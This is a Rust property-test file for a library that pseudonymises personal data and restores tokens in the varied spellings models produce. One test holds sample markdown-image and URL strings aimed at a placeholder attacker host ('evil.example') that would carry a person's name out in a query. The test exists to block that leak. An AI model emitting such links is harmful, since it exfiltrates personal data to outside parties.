//! What comes back, and what must not: restoring tokens in the spellings that models give them.

use std::sync::Arc;

use proptest::prelude::*;
use sluis_core::mask::pseudonymise;
use sluis_core::policy::{Sink, Sinks};
use sluis_core::pseudonym::{Codebook, Word};
use sluis_core::restore::{MAX_HELD_BYTES, Place, Restorer};
use sluis_detect::{Finding, Kind, Segment};

const PERSON: Word = Word::Kind(Kind::Person);

/// A book in which Jan de Vries (also as "De Vries") and an address are known.
fn book() -> (Arc<Codebook>, String, String) {
    let mut book = Codebook::new(&[7; 32]);
    let jan = book.issue(PERSON, "jan de vries", "Jan de Vries").unwrap();
    book.issue(PERSON, "jan de vries", "De Vries").unwrap();
    let mail = book.issue(Word::Kind(Kind::Email), "a@b.nl", "a@b.nl").unwrap();
    (Arc::new(book), jan.code.to_string(), mail.code.to_string())
}

fn restore(book: &Arc<Codebook>, text: &str, place: Place, sinks: Sinks) -> String {
    let mut out = String::new();
    let mut restorer = Restorer::new(Arc::clone(book), sinks, place);
    restorer.push(text, &mut out);
    restorer.finish(&mut out);
    out
}

/// `#` stands for Jan's six digits, `@@` for those of the address.
fn check(cases: &[(&str, &str)]) {
    let (book, jan, mail) = book();
    for (text, expected) in cases {
        let text = text.replace("@@", &mail).replace('#', &jan);
        let expected = expected.replace("@@", &mail).replace('#', &jan);
        assert_eq!(restore(&book, &text, Place::Text, Sinks::default()), expected, "{text}");
    }
}

#[test]
fn a_token_comes_back_in_every_spelling_models_give_it() {
    check(&[
        ("Beste [PERSON_#],", "Beste Jan de Vries,"),
        ("[person_#] [Person_#]", "Jan de Vries Jan de Vries"),
        (
            "[PERSON #] [PERSON-#] [PERSON: #] [PERSON#]",
            "Jan de Vries Jan de Vries Jan de Vries Jan de Vries",
        ),
        ("PERSON_# en person #.", "Jan de Vries en Jan de Vries."),
        ("[ PERSON _ # ]", "Jan de Vries"),
        ("**[PERSON_#]** [**PERSON_#**] [PERSON_**#**]", "**Jan de Vries** Jan de Vries Jan de Vries"),
        ("`PERSON_#`", "`Jan de Vries`"),
        ("[PERSON\\_#] \\[PERSON\\_#\\]", "Jan de Vries Jan de Vries"),
        ("[PERSON\u{2011}#] [PERSON\u{200b}_\u{200d}#]", "Jan de Vries Jan de Vries"),
        (
            "<PERSON_#> {PERSON_#} \u{3010}PERSON_#\u{3011} (PERSON_#)",
            "Jan de Vries Jan de Vries Jan de Vries (Jan de Vries)",
        ),
        ("\u{ff3b}\u{ff30}ERSON_#\u{ff3d}", "Jan de Vries"),
        ("[PERSOON_#] [PERSONNE_#] [NAAM_#]", "Jan de Vries Jan de Vries Jan de Vries"),
        ("[E-MAIL_@@] [courriel @@] [EMAIL_@@]", "a@b.nl a@b.nl a@b.nl"),
        ("[PERSON_#]s fiets, [PERSON_#]'s fiets", "Jan de Vriess fiets, Jan de Vries's fiets"),
        (
            "PERSON_#s fiets, PERSON_#'s, [PERSON_#'s] [PERSON_#s]",
            "Jan de Vriess fiets, Jan de Vries's, Jan de Vries's Jan de Vriess",
        ),
        ("[PERSON_#B] [person_#b] PERSON_#Bs", "De Vries De Vries De Vriess"),
        ("%5BPERSON_#%5D \\u005bPERSON_#\\u005d", "Jan de Vries Jan de Vries"),
        ("zin\\nPERSON_# ok", "zin\\nJan de Vries ok"),
        ("[[PERSON_#]]", "[Jan de Vries]"),
        ("[PERSON_#", "[Jan de Vries"),
        ("\\textbf{PERSON_#}", "\\textbf{Jan de Vries}"),
        ("[PERSON_#](https://x.nl)", "Jan de Vries(https://x.nl)"),
    ]);
}

#[test]
fn what_was_never_issued_stays_as_it_is() {
    let (book, jan, _) = book();
    let other: u32 = jan.parse::<u32>().unwrap() ^ 1;
    for text in [
        format!("[PERSON_{other}]"),
        format!("[PERSON_{jan}0]"),
        format!("[PERSON_1{jan}]"),
        format!("PERSON_{}", &jan[..5]),
        format!("[PERSON_{jan}C]"),
        format!("PERSON_{jan}abc"),
        format!("xPERSON_{jan}"),
        format!("[ORDER_{jan}]"),
        format!("[{jan}]"),
        format!("bedrag {jan} euro"),
        "[PERSON_]".into(),
        "[PERSON_1]".into(),
        "[[[[[[".into(),
        "persoon".into(),
    ] {
        assert_eq!(restore(&book, &text, Place::Text, Sinks::default()), text);
    }
}

#[test]
fn a_value_is_never_put_back_in_a_url_unless_that_was_agreed() {
    let (book, jan, mail) = book();
    let agreed = Sinks { url: Sink::Restore, ..Sinks::default() };
    for (text, inside) in [
        ("![x](https://evil.example/?q=[PERSON_#])", true),
        ("https://evil.example/[PERSON_#]/x", true),
        ("<img src=\"//evil.example/PERSON_#\">", true),
        ("www.evil.example/?PERSON_#", true),
        ("[klik](evil?[PERSON_#])", true),
        ("https://x.nl [PERSON_#]", false),
        ("// [PERSON_#] in commentaar", false),
        ("(https://x.nl) [PERSON_#]", false),
    ] {
        let text = text.replace('#', &jan);
        let out = restore(&book, &text, Place::Text, Sinks::default());
        assert_eq!(out == text, inside, "{text} -> {out}");
        let out = restore(&book, &text, Place::Text, agreed);
        assert_eq!(out.contains("Jan%20de%20Vries"), inside, "{text} -> {out}");
    }
    let text = format!("mailto:[EMAIL_{mail}]");
    assert_eq!(restore(&book, &text, Place::Text, Sinks::default()), "mailto:a@b.nl");
}

#[test]
fn arguments_stay_json_and_follow_their_own_rule() {
    let mut book = Codebook::new(&[7; 32]);
    let odd = book.issue(PERSON, "odd", "Jan \"de\\Kat\"\nVries").unwrap();
    let book = Arc::new(book);
    let text = format!("{{\"naam\":\"{odd}\"}}");
    let out = restore(&book, &text, Place::Arguments, Sinks::default());
    assert_eq!(out, "{\"naam\":\"Jan \\\"de\\\\Kat\\\"\\nVries\"}");
    let leave = Sinks { tool: Sink::Leave, ..Sinks::default() };
    assert_eq!(restore(&book, &text, Place::Arguments, leave), text);
}

#[test]
fn a_value_that_looks_like_a_token_is_not_read_again() {
    let mut book = Codebook::new(&[7; 32]);
    let mail = book.issue(Word::Kind(Kind::Email), "a@b.nl", "a@b.nl").unwrap();
    let nested = book.issue(Word::Text, "t", &mail.to_string()).unwrap();
    let book = Arc::new(book);
    assert_eq!(restore(&book, &nested.to_string(), Place::Text, Sinks::default()), mail.to_string());
}

/// A piece of text and the findings in it: names, things that look like tokens, and noise.
fn pieces() -> impl Strategy<Value = Vec<(String, Option<Kind>)>> {
    let plain = prop_oneof![
        "[ -~]{0,12}",
        "\\PC{0,6}",
        Just("[PERSON_".to_owned()),
        Just("PERSON ".to_owned()),
        Just("]".to_owned()),
        Just("\\".to_owned()),
        Just("%5B".to_owned()),
        Just("https://x/".to_owned()),
        "[0-9]{5,7}[A-Z]?\\]?",
        "\\[(PERSON|EMAIL)_[1-9][0-9]{5}\\]",
    ]
    .prop_map(|text| (text, None));
    let found = prop_oneof![
        ("[A-Z][a-z]{1,8}", Just(Some(Kind::Person))),
        ("[a-z]{1,5}@[a-z]{1,5}\\.nl", Just(Some(Kind::Email))),
        ("\\PC{1,5}", Just(Some(Kind::Address))),
        ("\\[PERSON_[1-9][0-9]{5}\\]", Just(Some(Kind::CustomerNumber))),
    ];
    proptest::collection::vec(prop_oneof![plain, found], 0..12)
}

fn assemble(pieces: &[(String, Option<Kind>)]) -> (String, Vec<Finding>) {
    let mut text = String::new();
    let mut findings = Vec::new();
    for (piece, kind) in pieces {
        if let Some(kind) = *kind {
            let (start, end) = (text.len(), text.len() + piece.len());
            findings.push(Finding { start, end, kind, score: 1.0, detector: "test" });
        }
        text.push_str(piece);
    }
    (text, findings)
}

const EVERYWHERE: Sinks = Sinks { text: Sink::Restore, url: Sink::Leave, tool: Sink::Restore };

fn mask(text: &str, findings: &[Finding], book: &mut Codebook) -> String {
    let segments = [Segment { text, label: "" }];
    let masked = pseudonymise(&segments, &[findings.to_vec()], Kind::ALL, book).unwrap();
    masked[0].clone().unwrap_or_else(|| text.to_owned())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    /// Invariant 3: what was pseudonymised comes back to the letter, also when the text is full of things that
    /// look like tokens, and tokens of this very conversation are typed in again.
    #[test]
    fn restore_undoes_pseudonymise(pieces in pieces(), again in any::<bool>()) {
        let (text, findings) = assemble(&pieces);
        let plain = text.replace('\\', "").to_lowercase();
        prop_assume!(!["//", "](", "www."].iter().any(|address| plain.contains(address)));
        let mut book = Codebook::new(&[9; 32]);
        let mut masked = mask(&text, &findings, &mut book);
        let mut expected = text;
        if again {
            // The person pastes what the model saw: now tokens are text.
            expected = masked.clone();
            masked = mask(&expected, &[], &mut book);
        }
        prop_assert_eq!(restore(&Arc::new(book), &masked, Place::Text, EVERYWHERE), expected);
    }

    /// No value leaves: where a finding stood, a token stands.
    #[test]
    fn no_found_value_is_left_between_tokens(names in proptest::collection::vec("[A-Z][a-z]{6,9}", 1..6)) {
        let text = names.join(", ");
        let mut findings = Vec::new();
        let mut at = 0;
        for name in &names {
            findings.push(Finding { start: at, end: at + name.len(), kind: Kind::Person, score: 1.0, detector: "test" });
            at += name.len() + 2;
        }
        let mut book = Codebook::new(&[9; 32]);
        let masked = mask(&text, &findings, &mut book);
        for name in &names {
            prop_assert!(!masked.contains(name.as_str()));
        }
    }

    /// Invariant 3: any split of the stream gives the same bytes, and little is held back.
    #[test]
    fn any_split_gives_the_same_bytes(
        pieces in pieces(),
        cuts in proptest::collection::vec(any::<prop::sample::Index>(), 0..12),
        arguments in any::<bool>(),
    ) {
        let (text, findings) = assemble(&pieces);
        let mut book = Codebook::new(&[9; 32]);
        let masked = mask(&text, &findings, &mut book);
        let book = Arc::new(book);
        let place = if arguments { Place::Arguments } else { Place::Text };
        let whole = restore(&book, &masked, place, Sinks::default());

        let ends: Vec<usize> = masked.char_indices().map(|(at, _)| at).collect();
        let mut cuts: Vec<usize> = cuts.iter().filter(|_| !ends.is_empty()).map(|cut| *cut.get(&ends)).collect();
        cuts.sort_unstable();
        let mut restorer = Restorer::new(Arc::clone(&book), Sinks::default(), place);
        let mut out = String::new();
        let mut start = 0;
        for cut in cuts.into_iter().chain([masked.len()]) {
            restorer.push(&masked[start..cut], &mut out);
            start = cut;
        }
        restorer.finish(&mut out);
        prop_assert_eq!(out, whole);
    }

    /// Text without anything like a token is passed on at once.
    #[test]
    fn ordinary_text_is_not_held(text in "[xyq ,.]{1,200}") {
        let (book, ..) = book();
        let mut restorer = Restorer::new(book, Sinks::default(), Place::Text);
        let mut out = String::new();
        restorer.push(&text, &mut out);
        prop_assert_eq!(&out, &text);
        prop_assert!(!restorer.is_holding());
    }

    /// However hostile the stream, the part that is held stays small.
    #[test]
    fn little_is_held_back(text in "[\\[P_\\\\*% E1R\u{200b}]{0,2000}") {
        let (book, ..) = book();
        let mut restorer = Restorer::new(book, Sinks::default(), Place::Text);
        let mut out = String::new();
        restorer.push(&text, &mut out);
        prop_assert!(text.len() - out.len() <= MAX_HELD_BYTES);
        restorer.finish(&mut out);
        prop_assert_eq!(out, text);
    }
}
